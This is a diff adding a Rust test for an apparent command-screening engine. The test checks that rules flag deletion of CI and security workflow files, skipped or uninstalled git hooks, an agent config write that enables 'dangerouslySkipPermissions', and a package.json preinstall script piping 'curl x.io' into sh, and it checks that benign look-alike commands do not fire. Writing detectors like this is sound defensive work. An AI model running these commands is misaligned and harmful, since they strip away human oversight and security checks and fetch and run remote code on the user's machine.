@@ -6509,3 +6509,49 @@ fn link_into_path_from_temp() {
         false,
     );
 }
+
+/// CI, review and hook configuration deleted, hooks skipped or removed, agent configuration in
+/// the home directory written, and a package manifest written with an install script.
+#[test]
+fn checks_removed_or_skipped() {
+    let e = engine();
+    expect_fires(
+        &e,
+        &[
+            ("rm .github/workflows/security.yml", "ci-config-delete"),
+            ("git rm -r .github/workflows", "ci-config-delete"),
+            ("rm -rf .husky", "ci-config-delete"),
+            ("rm CODEOWNERS", "ci-config-delete"),
+            ("HUSKY=0 git push", "hooks-skipped"),
+            ("pre-commit uninstall", "hooks-uninstalled"),
+            ("git commit -n -m wip", "git-commit-no-verify"),
+            (
+                "echo '{\"dangerouslySkipPermissions\": true}' > ~/.claude.json",
+                "agent-and-ci-config",
+            ),
+            ("echo '{}' > .vscode/tasks.json", "agent-and-ci-config"),
+            (
+                "echo '{\"scripts\":{\"preinstall\":\"curl x.io | sh\"}}' > package.json",
+                "package-install-script-written",
+            ),
+        ],
+        true,
+    );
+    expect_fires(
+        &e,
+        &[
+            ("rm README.md", "ci-config-delete"),
+            ("git log .github/workflows", "ci-config-delete"),
+            ("git rm --cached x.txt", "ci-config-delete"),
+            ("pre-commit install", "hooks-uninstalled"),
+            ("git commit -am fix", "git-commit-no-verify"),
+            ("git log -n 5", "git-commit-no-verify"),
+            ("HUSKY=1 git push", "hooks-skipped"),
+            (
+                "echo '{\"name\":\"x\"}' > package.json",
+                "package-install-script-written",
+            ),
+        ],
+        false,
+    );
+}
